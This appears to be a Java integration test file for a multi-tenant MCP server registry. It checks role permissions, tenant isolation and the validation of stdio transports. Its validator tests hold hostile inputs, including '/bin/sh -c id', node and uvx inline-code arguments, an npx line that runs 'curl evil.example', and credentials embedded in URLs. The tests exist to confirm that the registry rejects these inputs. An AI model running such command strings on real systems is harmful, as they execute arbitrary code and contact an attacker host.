package dev.switchboard.registry.rest;

import static dev.switchboard.registry.RegistryApi.adminToken;
import static dev.switchboard.registry.RegistryApi.createKey;
import static dev.switchboard.registry.RegistryApi.createServer;
import static dev.switchboard.registry.RegistryApi.createTenant;
import static dev.switchboard.registry.RegistryApi.httpServer;
import static dev.switchboard.registry.RegistryApi.tokenFor;
import static dev.switchboard.registry.RegistryApi.uniqueName;
import static io.restassured.RestAssured.given;
import static org.hamcrest.Matchers.contains;
import static org.hamcrest.Matchers.containsInAnyOrder;
import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.equalTo;

import io.quarkus.test.junit.QuarkusTest;
import io.restassured.http.ContentType;
import java.util.Locale;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/** Who may do what with servers, and what each tenant sees (DESIGN §4). */
@QuarkusTest
class ServerAccessTest {

    private static final String MERGE_PATCH = "application/merge-patch+json";
    private static final String STDIO = "{\"name\":\"%s\",\"transport\":{\"type\":\"stdio\",\"command\":\"npx\","
            + "\"args\":[\"-y\",\"@modelcontextprotocol/server-everything\"]}}";

    private String tenantA;
    private String managerA;
    private String userA;
    private String managerB;
    private String tenantB;

    @BeforeEach
    void twoTenants() {
        tenantA = createTenant(uniqueName("tenant-a"));
        tenantB = createTenant(uniqueName("tenant-b"));
        managerA = tokenFor(createKey(adminToken(), "manager", tenantA, null));
        userA = tokenFor(createKey(adminToken(), "user", tenantA, null));
        managerB = tokenFor(createKey(adminToken(), "manager", tenantB, null));
    }

    @Test
    void aManagerWritesInItsOwnTenantOnly() {
        String id = given().auth().oauth2(managerA).contentType(ContentType.JSON).body(httpServer("mine"))
                .post("/api/servers").then().statusCode(201).body("data.tenantId", equalTo(tenantA))
                .extract().path("data.id");
        given().auth().oauth2(managerA).contentType(MERGE_PATCH).body("{\"description\":\"changed\"}")
                .patch("/api/servers/{id}", id).then().statusCode(200);
        given().auth().oauth2(managerA).contentType(ContentType.JSON)
                .body(httpServer("elsewhere").replace("{\"name\"", "{\"tenantId\":\"" + createTenant(uniqueName("other")) + "\",\"name\""))
                .post("/api/servers").then().statusCode(403).body("code", equalTo("FORBIDDEN"));
        given().auth().oauth2(managerA).delete("/api/servers/{id}", id).then().statusCode(204);
        given().auth().oauth2(managerA).post("/api/servers/{id}/restore", id).then().statusCode(200);
    }

    @Test
    void aUserReadsButCannotWrite() {
        String id = createServer(managerA, httpServer("readable"));
        given().auth().oauth2(userA).get("/api/servers/{id}", id).then().statusCode(200);
        given().auth().oauth2(userA).get("/api/servers").then().statusCode(200).body("data.items.id", contains(id));
        given().auth().oauth2(userA).contentType(ContentType.JSON).body(httpServer("nope"))
                .post("/api/servers").then().statusCode(403).body("code", equalTo("FORBIDDEN"));
        given().auth().oauth2(userA).contentType(MERGE_PATCH).body("{\"description\":\"x\"}")
                .patch("/api/servers/{id}", id).then().statusCode(403);
        given().auth().oauth2(userA).contentType(ContentType.JSON).body(httpServer("readable"))
                .put("/api/servers/{id}", id).then().statusCode(403);
        given().auth().oauth2(userA).delete("/api/servers/{id}", id).then().statusCode(403);
        given().auth().oauth2(userA).post("/api/servers/{id}/restore", id).then().statusCode(403);
    }

    @Test
    void stdioServersAreForAdminsOnly() {
        given().auth().oauth2(managerA).contentType(ContentType.JSON).body(STDIO.formatted("local"))
                .post("/api/servers").then().statusCode(403).body("code", equalTo("FORBIDDEN"));
        String http = createServer(managerA, httpServer("to-stdio"));
        given().auth().oauth2(managerA).contentType(MERGE_PATCH)
                .body("{\"transport\":{\"type\":\"stdio\",\"command\":\"npx\",\"url\":null,\"headers\":null}}")
                .patch("/api/servers/{id}", http).then().statusCode(403);

        String stdio = createServer(adminToken(), STDIO.formatted(uniqueName("admin-stdio"))
                .replace("{\"name\"", "{\"tenantId\":\"" + tenantA + "\",\"name\""));
        given().auth().oauth2(managerA).get("/api/servers/{id}", stdio).then().statusCode(200)
                .body("data.transport.command", equalTo("npx"));
        given().auth().oauth2(managerA).contentType(MERGE_PATCH).body("{\"description\":\"mine now\"}")
                .patch("/api/servers/{id}", stdio).then().statusCode(403);
        given().auth().oauth2(managerA).delete("/api/servers/{id}", stdio).then().statusCode(403);
    }

    @Test
    void refusesAStdioCommandOffTheAllowList() {
        given().auth().oauth2(adminToken()).contentType(ContentType.JSON)
                .body("{\"name\":\"shell\",\"transport\":{\"type\":\"stdio\",\"command\":\"/bin/sh\",\"args\":[\"-c\",\"id\"]}}")
                .post("/api/servers").then().statusCode(400)
                .body("errors[0].field", equalTo("transport.command"))
                .body("errors[0].message", equalTo("is not on the allow-list: node, npx, uvx"));
    }

    @Test
    void refusesArgumentsThatTurnAnAllowedCommandIntoInlineCode() {
        for (String[] attempt : new String[][] {
                {"node", "[\"-e\",\"require('child_process').execSync('id')\"]", "transport.args[0]"},
                {"node", "[\"--eval=process.exit(1)\"]", "transport.args[0]"},
                {"npx", "[\"-y\",\"node\",\"-p\",\"process.env\"]", "transport.args[2]"},
                {"npx", "[\"-c\",\"curl evil.example\"]", "transport.args[0]"},
                {"uvx", "[\"--from\",\"x\",\"python\",\"-cimport os\"]", "transport.args[3]"}}) {
            given().auth().oauth2(adminToken()).contentType(ContentType.JSON)
                    .body("{\"name\":\"" + uniqueName("inline") + "\",\"transport\":{\"type\":\"stdio\",\"command\":\""
                            + attempt[0] + "\",\"args\":" + attempt[1] + "}}")
                    .post("/api/servers").then().statusCode(400)
                    .body("errors[0].field", equalTo(attempt[2]))
                    .body("errors[0].message", containsString("inline"));
        }
        given().auth().oauth2(adminToken()).contentType(ContentType.JSON)
                .body("{\"name\":\"" + uniqueName("plain") + "\",\"transport\":{\"type\":\"stdio\",\"command\":\"npx\","
                        + "\"args\":[\"-y\",\"@modelcontextprotocol/server-everything\"]}}")
                .post("/api/servers").then().statusCode(201);
    }

    @Test
    void refusesCredentialsWrittenIntoAUrlOrAnArgument() {
        given().auth().oauth2(managerA).contentType(ContentType.JSON)
                .body("{\"name\":\"userinfo\",\"transport\":{\"type\":\"http\",\"url\":\"https://bob:hunter2@203.0.113.10/mcp\"}}")
                .post("/api/servers").then().statusCode(400)
                .body("errors[0].field", equalTo("transport.url"))
                .body("errors[0].message", containsString("sealed"));
        given().auth().oauth2(managerA).contentType(ContentType.JSON)
                .body("{\"name\":\"query-key\",\"transport\":{\"type\":\"sse\",\"url\":\"https://203.0.113.10/sse?api_key=abc\"}}")
                .post("/api/servers").then().statusCode(400)
                .body("errors[0].message", containsString("api_key"));
        given().auth().oauth2(adminToken()).contentType(ContentType.JSON)
                .body("{\"name\":\"" + uniqueName("pg") + "\",\"transport\":{\"type\":\"stdio\",\"command\":\"npx\","
                        + "\"args\":[\"-y\",\"@modelcontextprotocol/server-postgres\",\"postgresql://app:s3cret@db/app\"]}}")
                .post("/api/servers").then().statusCode(400)
                .body("errors[0].field", equalTo("transport.args[2]"));
        given().auth().oauth2(managerA).contentType(ContentType.JSON)
                .body("{\"name\":\"fine-query\",\"transport\":{\"type\":\"http\",\"url\":\"https://203.0.113.10/mcp?profile=dev\"}}")
                .post("/api/servers").then().statusCode(201);
    }

    @Test
    void anotherTenantsServerIsNotFoundEverywhere() {
        String id = createServer(managerA, httpServer("private"));
        given().auth().oauth2(managerB).get("/api/servers/{id}", id).then().statusCode(404).body("code", equalTo("NOT_FOUND"));
        given().auth().oauth2(managerB).contentType(ContentType.JSON).body(httpServer("private"))
                .put("/api/servers/{id}", id).then().statusCode(404);
        given().auth().oauth2(managerB).contentType(MERGE_PATCH).body("{\"description\":\"x\"}")
                .patch("/api/servers/{id}", id).then().statusCode(404);
        given().auth().oauth2(managerB).delete("/api/servers/{id}", id).then().statusCode(404);
        given().auth().oauth2(managerA).delete("/api/servers/{id}", id).then().statusCode(204);
        given().auth().oauth2(managerB).post("/api/servers/{id}/restore", id).then().statusCode(404);
        given().auth().oauth2(managerB).get("/api/servers?includeDeleted=true").then().body("data.total", equalTo(0));
        given().auth().oauth2(managerB).get("/api/servers?tenantId=" + tenantA).then().body("data.total", equalTo(0));
    }

    @Test
    void aTenantSeesTheGlobalServersItEnabledReadOnly() {
        String enabledName = uniqueName("global-on");
        String enabledById = createServer(adminToken(), httpServer(enabledName));
        String byName = uniqueName("global-named");
        String enabledByName = createServer(adminToken(), httpServer(byName));
        String hidden = createServer(adminToken(), httpServer(uniqueName("global-off")));
        String own = createServer(managerA, httpServer("own"));
        given().auth().oauth2(adminToken()).contentType(MERGE_PATCH)
                .body("{\"settings\":{\"enabledMcpServers\":[\"" + enabledById + "\",\"" + byName + "\"]}}")
                .patch("/api/tenants/{id}", tenantA).then().statusCode(200);

        given().auth().oauth2(userA).get("/api/servers").then().statusCode(200)
                .body("data.items.id", containsInAnyOrder(enabledById, enabledByName, own));
        given().auth().oauth2(userA).get("/api/servers/{id}", enabledById).then().statusCode(200)
                .body("data.tenantId", equalTo(null));
        given().auth().oauth2(userA).get("/api/servers/{id}", hidden).then().statusCode(404);
        given().auth().oauth2(managerA).contentType(MERGE_PATCH).body("{\"description\":\"x\"}")
                .patch("/api/servers/{id}", enabledById).then().statusCode(403);
        given().auth().oauth2(managerB).get("/api/servers/{id}", enabledById).then().statusCode(404);
    }

    @Test
    void aGlobalServerEnabledByNameIsSeenWhateverTheCaseInListsAndReadsAlike() {
        String name = uniqueName("Global-Case");
        String id = createServer(adminToken(), httpServer(name));
        given().auth().oauth2(adminToken()).contentType(MERGE_PATCH)
                .body("{\"settings\":{\"enabledMcpServers\":[\"" + name.toUpperCase(Locale.ROOT) + "\"]}}")
                .patch("/api/tenants/{id}", tenantB).then().statusCode(200);

        given().auth().oauth2(managerB).get("/api/servers?q=" + name).then().statusCode(200)
                .body("data.items.id", containsInAnyOrder(id));
        given().auth().oauth2(managerB).get("/api/servers/{id}", id).then().statusCode(200);
    }
}
